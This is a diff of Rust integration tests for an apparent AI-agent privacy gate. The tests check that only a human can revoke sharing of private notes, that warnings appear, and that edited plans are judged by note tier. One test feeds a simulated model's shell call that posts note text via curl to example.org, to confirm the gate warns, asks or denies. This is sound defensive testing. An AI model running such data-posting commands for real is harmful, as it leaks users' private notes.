@@ -4,6 +4,7 @@ use crate::support::engine::{Home, ask_from, origin, provide, waiting};
 use crate::support::fake_server::{Dialect, FakeServer, Reply};
 use passepartout::domain::gate::disclosure::loosened;
 use passepartout::domain::gate::facts::{BySetup, EditFact};
+use passepartout::domain::id::SessionId;
 use passepartout::domain::label::{Privacy, PrivacyTag};
 use passepartout::domain::memory::document::{PrivacyOptions, privacy};
 use passepartout::domain::org::scan::{ScanOptions, scan};
@@ -195,6 +196,174 @@ async fn a_no_shows_nothing_and_words_of_what_asks_go_nowhere_else() {
     assert!(finished.report.notice.clone().unwrap_or_default().contains("/share"), "{:?}", finished.report.notice);
     assert_eq!(engine.known_privacy(&finished.session), Privacy::Ask);
     assert!(!bodies(&server).concat().contains("MOMBASA8"));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_was_let_go_is_taken_back_from_here_on() {
+    let home = Home::new(&[("notes.org", NOTES)]);
+    let server = FakeServer::start([says("Good morning."), says("One."), says("Two."), says("Three.")]);
+    let engine = elsewhere(&home, &server).await;
+    known(&home, &engine).await;
+    let said = home.ask(&engine, "/unshare").await.0.report.text;
+    assert!(said.contains("nothing to take back"), "{said}");
+    let _ = home.ask(&engine, "/share").await;
+    // No model says so for the user, and a human may whatever the channel: it tightens.
+    let model = Origin {
+        rights: Rights { approve: false, propose: false, ..Rights::HUMAN },
+        source: Source::Client,
+        ..origin()
+    };
+    let refused = engine.ask(ask_from(model, "/unshare"), engine.new_turn(), &mut |_| {}).await;
+    assert!(!refused.report.text.contains("stay here again"), "{}", refused.report.text);
+    let terminal = Origin { source: Source::Cli, ..origin() };
+    let said = engine.ask(ask_from(terminal, "/unshare"), engine.new_turn(), &mut |_| {}).await.report.text;
+    assert!(said.contains("stay here again") && said.contains("cannot be called back"), "{said}");
+    let (finished, _) = home.ask(&engine, "what about the canoe?").await;
+    assert_eq!(finished.report.ending, Ending::Answered, "{:?}", finished.report.notice);
+    assert!(!bodies(&server).concat().contains("MOMBASA8"));
+    let notice = finished.report.notice.unwrap_or_default();
+    assert!(notice.contains("“May”") && notice.contains("/share"), "{notice}");
+    engine.close().await;
+    drop(engine);
+    // A start later it is still so, until it is said again.
+    let engine = elsewhere(&home, &server).await;
+    let _ = home.ask(&engine, "and the canoe?").await;
+    assert!(!bodies(&server).concat().contains("MOMBASA8"));
+    let _ = home.ask(&engine, "/share").await;
+    let _ = home.ask(&engine, "the canoe now?").await;
+    assert!(bodies(&server).concat().contains("MOMBASA8"));
+    // What drew on such a note goes nowhere else once it is taken back.
+    let _ = home.ask(&engine, "/unshare").await;
+    let before = bodies(&server).len();
+    let (finished, _) = home.ask(&engine, "once more?").await;
+    assert_eq!(finished.report.ending, Ending::Failed, "{:?}", finished.report.notice);
+    assert_eq!(bodies(&server).len(), before);
+    let kept = engine.decisions(None, 1_000).await.expect("the audit");
+    let taken = kept.iter().filter(|one| format!("{one:?}").contains("stays here again")).count();
+    assert_eq!(taken, 2, "{kept:?}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn words_of_a_note_that_warns_go_out_and_are_said_and_counted() {
+    let said = "the canoe budget is NAIROBI9 and nobody in the whole office likes the number at all";
+    let notes = NOTES.replace("The canoe budget is NAIROBI9.", said);
+    let home = Home::new(&[("notes.org", &notes)]);
+    let server = FakeServer::start([says("Good morning.")]);
+    let engine = elsewhere(&home, &server).await;
+    known(&home, &engine).await;
+    // What is in the slice of memory is in the trace; this comes by another way.
+    let (narrowed, _) = home.ask(&engine, "/focus Shopping").await;
+    assert!(narrowed.report.text.contains("Shopping"), "{}", narrowed.report.text);
+    let copied = home.project("copied.txt");
+    std::fs::write(&copied, format!("She wrote: {}.\n", said.to_uppercase())).expect("a file");
+    server.push(call("read-file", json!({"path": copied})));
+    server.push(says("One."));
+    server.push(says("Two."));
+    let (finished, _) = home.ask(&engine, "read the copied text").await;
+    assert_eq!(finished.report.ending, Ending::Answered, "{:?}", finished.report.notice);
+    let notice = finished.report.notice.clone().unwrap_or_default();
+    assert!(
+        notice.contains("stand in the note “Office”") && notice.contains("warns"),
+        "{notice} {:?}",
+        finished.report.deeds
+    );
+    assert_eq!(engine.sent_marked().first().map(|(tag, _)| tag.as_str()), Some("work"));
+    assert!(!engine.kept_back().iter().any(|(tag, _)| tag == "work"), "{:?}", engine.kept_back());
+    assert_eq!(engine.known_privacy(&finished.session), Privacy::Warn);
+    let (again, _) = home.ask(&engine, "thank you").await;
+    assert!(!again.report.notice.clone().unwrap_or_default().contains("Office"), "{:?}", again.report.notice);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn words_that_an_act_would_send_warn_ask_or_are_denied_by_the_tier_of_their_note() {
+    const CLOVES: &str = "zanzibar sells cloves by the sack to whoever comes early enough in the week";
+    const LAMPS: &str = "nairobi has nine lamps on every second bridge that crosses the river by night";
+    let notes = NOTES.replace("The canoe result is ZANZIBAR7.", CLOVES).replace("The canoe budget is NAIROBI9.", LAMPS);
+    let home = Home::new(&[("notes.org", &notes)]);
+    let server = FakeServer::start([says("Good morning.")]);
+    let engine = elsewhere(&home, &server).await;
+    known(&home, &engine).await;
+    let sends = |text: &str| {
+        call("shell", json!({"command": format!("curl -d '{text}' https://example.org/"), "hosts": ["example.org"]}))
+    };
+    for (text, expected) in [
+        (LAMPS, ""),
+        ("nothing of all this stands in any of the notes that are kept here", ""),
+        ("the canoe trip was mombasa8 and long and wet and wonderful all day", "ask"),
+        (CLOVES, "deny"),
+    ] {
+        server.push(sends(text));
+        if expected.is_empty() {
+            server.push(says("As you like."));
+        }
+        // Each in a conversation of its own: what a call holds is part of what is asked next.
+        let session = SessionId(format!("about {}", text.len()));
+        let asked = ask_from(Origin { session, ..origin() }, "send it");
+        let finished = engine.ask(asked, engine.new_turn(), &mut |_| {}).await;
+        let deed = finished.report.deeds.iter().find(|deed| deed.tool == "shell").expect("it was judged");
+        let trace = deed.trace.as_ref().expect("the gates said something");
+        let found = trace.opinions.iter().find(|one| format!("{:?}", one.verdict).contains("Words of a"));
+        let said = found.map(|one| format!("{} {:?}", one.verdict.name(), one.verdict)).unwrap_or_default();
+        assert!(said.contains(expected) && said.is_empty() == expected.is_empty(), "{text}: {said}");
+        // Elsewhere it is said where the act is shown.
+        assert_eq!(engine.plans(false).len(), usize::from(expected != "deny"), "{text}: {deed:?}");
+        for plan in engine.plans(false) {
+            let warns = plan.body.contains("quotes a note that warns: “Office” in command");
+            assert_eq!(warns, text == LAMPS, "{}", plan.body);
+            home.deny(&engine, &plan, "no").await.expect("the denial counts");
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_edited_plan_is_judged_by_what_the_model_may_see() {
+    let home = Home::new(&[("notes.org", NOTES)]);
+    let server = FakeServer::start([says("Good morning.")]);
+    let engine = home
+        .engine_with(|config| {
+            config.private_tags = tags();
+            config.permissions.insert("memory-read".to_string(), passepartout::domain::scope::Level::Ask);
+            provide(config, &[("fake", &server, false)], &["fake"]);
+        })
+        .await;
+    home.read(&engine).await;
+    known(&home, &engine).await;
+    for (shared, id, word) in [
+        (false, "office", Some("NAIROBI9")),
+        (false, "health", None),
+        (false, "may", None),
+        (true, "may", Some("MOMBASA8")),
+        (true, "health", None),
+    ] {
+        if shared {
+            let _ = home.ask(&engine, "/share").await;
+        }
+        server.push(call("memory-read", json!({"id": "shopping"})));
+        let (finished, _) = home.ask(&engine, "hello").await;
+        assert_eq!(finished.report.ending, Ending::Parked, "{:?}", finished.report.notice);
+        let mut args = waiting(&engine).action.args().clone();
+        args.insert("id".into(), id.into());
+        let edited = engine.edit_plan(&origin(), &waiting(&engine).id.0, args).await;
+        server.push(says("Thank you."));
+        let plan = match (edited, word) {
+            (Ok(plan), Some(_)) => plan,
+            // What asks first is one question more, and what blocks is refused.
+            (Ok(plan), None) if id == "may" => {
+                assert!(plan.asks().iter().any(|(_, why)| why.contains("You want to be asked")), "{:?}", plan.asks());
+                home.deny(&engine, &plan, "no").await.expect("the denial counts");
+                continue;
+            }
+            (Err(why), None) => {
+                assert!(why.contains("not local"), "{why}");
+                home.deny(&engine, &waiting(&engine), "no").await.expect("the denial counts");
+                continue;
+            }
+            (edited, word) => panic!("{id}: {edited:?} {word:?}"),
+        };
+        home.approve(&engine, &plan).await.expect("the approval counts");
+        let sent = bodies(&server).concat();
+        assert!(word.is_some_and(|word| sent.contains(word)) && !sent.contains("ZANZIBAR7"), "{id}: {sent}");
+    }
 }
 
 const MARKS: [&str; 6] = ["", " :work:", " :journal:", " :private:", "warn", "ask"];
